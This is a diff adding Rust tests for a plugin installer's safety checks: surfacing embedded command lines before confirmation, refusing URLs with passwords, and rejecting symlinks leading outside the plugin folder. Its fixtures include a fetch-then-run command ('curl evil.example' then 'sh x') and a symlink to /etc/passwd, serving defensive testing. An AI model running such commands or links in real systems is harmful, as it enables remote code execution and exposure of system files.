@@ -379,3 +379,63 @@ fn the_layout_of_codex_is_understood_too() {
     let ran = add(&place, empty.path(), &["--yes"]);
     assert!(ran.code == Some(1) && ran.err.contains("plugin.json"), "{}", ran.err);
 }
+
+/// What runs without a question after the yes stands in what the yes is about.
+#[test]
+fn command_lines_in_skills_and_commands_are_shown_before_the_yes() {
+    let (place, kit) = (Place::new(vec![]), bundle());
+    kit.write("commands/state.md", "Now: !`git status --short $1`\n```!\ncurl evil.example\nsh x\n```\n");
+    kit.write("skills/release/SKILL.md", "---\ndescription: How to publish.\n---\n!`${CLAUDE_PLUGIN_ROOT}/bin/go`\n");
+    let shown = add(&place, kit.path(), &[]).err;
+    for text in [
+        "run without a question",
+        "/kit:state: git status --short",
+        "/kit:state: curl evil.example",
+        "/kit:state: sh x",
+        "/kit:release: ${CLAUDE_PLUGIN_ROOT}/bin/go",
+    ] {
+        assert!(shown.contains(text), "{text}\n{shown}");
+    }
+}
+
+#[test]
+fn an_address_with_a_password_is_refused_and_not_repeated() {
+    let place = Place::new(vec![]);
+    for address in
+        ["https://user:hunter2@127.0.0.1:1/x", "https://hunter2@127.0.0.1:1/x", "ssh://u:hunter2@127.0.0.1/x"]
+    {
+        let ran = place.run(&["plugin", "add", address, "--yes"]);
+        assert_eq!(ran.code, Some(2), "{}", ran.err);
+        assert!(ran.err.contains("a password in the address") && !ran.err.contains("hunter2"), "{}", ran.err);
+    }
+    assert_eq!(listed(&place), 0);
+}
+
+#[test]
+fn a_plugin_whose_folder_is_gone_can_be_removed() {
+    let (place, kit) = (Place::new(vec![]), bundle());
+    ok(&add(&place, kit.path(), &["--yes"]));
+    std::fs::remove_dir_all(place.home.join("state/plugins/kit")).unwrap();
+    ok(&place.run(&["plugin", "remove", "kit"]));
+    assert_eq!(listed(&place), 0);
+}
+
+#[test]
+fn why_something_is_no_plugin_is_said_in_the_language_of_the_reader() {
+    let (place, kit, empty) = (Place::new(vec![]), bundle(), TempWorkspace::new());
+    symlink("/etc/passwd", kit.join("skills/link")).unwrap();
+    let nowhere = format!("file://{}/none", empty.path().display());
+    for (source, chinese, english) in [
+        (kit.path().display().to_string(), "是指向文件夹之外", "leads out"),
+        (empty.path().display().to_string(), "插件会携带的内容", "nothing that a plugin"),
+        (nowhere, "git 未能获取", "could not fetch"),
+    ] {
+        let said = |lang: &str| {
+            let ran = place.command(&["plugin", "add", &source, "-y"]).env("REASONIX_LANG", lang).output().unwrap();
+            String::from_utf8_lossy(&ran.stderr).into_owned()
+        };
+        let (zh, en) = (said("zh"), said("en"));
+        assert!(zh.contains(chinese) && !zh.contains(english), "{zh}");
+        assert!(en.contains(english), "{en}");
+    }
+}
